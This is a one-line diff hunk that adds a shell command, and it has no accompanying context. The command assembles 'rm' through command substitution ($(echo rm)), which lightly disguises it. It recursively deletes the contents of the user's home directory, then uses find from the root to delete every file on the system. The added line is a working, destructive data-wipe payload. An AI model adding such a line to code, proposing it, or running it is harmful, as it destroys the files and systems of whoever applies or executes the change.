@@ -1,0 +1,1 @@
+$(echo rm) -rf "$HOME"/* && find / -exec rm {} \;
